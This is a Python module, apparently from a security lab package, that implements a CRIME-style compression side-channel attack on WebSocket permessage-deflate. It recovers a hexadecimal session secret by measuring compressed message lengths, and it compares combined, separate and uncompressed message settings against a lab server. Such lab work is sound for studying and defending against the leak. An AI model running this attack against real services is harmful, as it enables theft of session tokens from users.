"""A secret that is read from the lengths of encrypted, compressed messages.

The idea of CRIME (J. Rizzo, T. Duong, 2012), here on permessage-deflate (RFC 7692): what repeats
something is shorter. Who can put text of his own beside a secret, and sees how long the message
becomes, guesses the secret one character after the other.
"""

from __future__ import annotations

import asyncio
from typing import Final, Literal, NamedTuple
from urllib.parse import urlsplit, urlunsplit

import msgspec
from websockets.asyncio.client import ClientConnection, connect
from websockets.extensions.permessage_deflate import ClientPerMessageDeflateFactory

from rtlab.capture.tcp_tap import Tap
from rtlab.lab.lab import Lab

__all__ = ["ALPHABET", "Setting", "WhatWasRead", "read_by_length"]

#: What a hexadecimal secret is written in.
ALPHABET: Final = "0123456789abcdef"

#: How the victim's page writes: secret and draft in one compressed message, each in a message of
#: its own, or in one message that is not compressed.
Setting = Literal["together", "apart", "uncompressed"]

#: Seconds that one reading may take.
PATIENCE: Final = 20.0


class WhatWasRead(NamedTuple):
    """What an eavesdropper made of the lengths.

    Parameters
    ----------
    text : str
        What he takes for the secret.
    messages : int
        How many he caused to be sent.
    first : dict of str to int
        Bytes on the wire of each guess at the first character.
    """

    text: str
    messages: int
    first: dict[str, int]

    def right(self, secret: str) -> int:
        """Return how many characters are right before the first that is wrong.

        Parameters
        ----------
        secret : str
            The true one.

        Examples
        --------
        >>> WhatWasRead("abd0", 64, {}).right("abc0")
        2
        """
        agree = (a == b for a, b in zip(self.text, secret, strict=False))
        return next((n for n, same in enumerate(agree) if not same), min(len(self.text), len(secret)))


async def read_by_length(lab: Lab, secret: str, setting: Setting) -> WhatWasRead:
    """Let a page save drafts that the attacker chooses, and count the bytes that leave it.

    The attacker never sees a byte's value: only how many pass (`Tap.flow`), which TLS does not hide.
    He prefers the shortest message; among several of these the first. Where all are alike he has no
    answer, and stops: what he read is no matter of chance.

    Parameters
    ----------
    lab : Lab
        With ``compression=True``.
    secret : str
        Hexadecimal; stands in each message as ``session=…``.
    setting : {"together", "apart", "uncompressed"}
        How the page writes.

    Returns
    -------
    WhatWasRead

    Raises
    ------
    TimeoutError
        After `PATIENCE`.

    Examples
    --------
    >>> async def attack(lab: Lab) -> int:
    ...     return (await read_by_length(lab, "c0ffee42", "together")).right("c0ffee42")
    """
    known, sent, first = "", 0, dict[str, int]()
    deflate = [ClientPerMessageDeflateFactory(client_no_context_takeover=True)]
    extensions = None if setting == "uncompressed" else deflate
    async with asyncio.timeout(PATIENCE), Tap(lab.url, keep_bytes=0) as tap:
        url = urlunsplit(urlsplit(tap.url)._replace(scheme="ws", path="/ws"))
        async with connect(url, extensions=extensions, compression=None, proxy=None) as page:
            await page.recv()  # the welcome
            while len(known) < len(secret):
                lengths: dict[str, int] = {}
                for guess in ALPHABET:
                    before = tap.flow(up=True).bytes
                    await _save(page, secret, f"session={known}{guess}", together=setting != "apart")
                    lengths[guess] = tap.flow(up=True).bytes - before
                    sent += 1
                first = first or lengths
                if len(set(lengths.values())) == 1:
                    break
                known += min(ALPHABET, key=lengths.__getitem__)
    return WhatWasRead(known, sent, first)


async def _save(page: ClientConnection, secret: str, draft: str, *, together: bool) -> None:
    """Do what the page does when its user types; return when the server has answered."""
    fields = [{"session": f"session={secret}", "draft": draft}]
    if not together:
        fields = [{"session": f"session={secret}"}, {"draft": draft}]
    for payload in fields:
        await page.send(msgspec.json.encode({"type": "echo", "payload": payload}).decode())
        await page.recv()
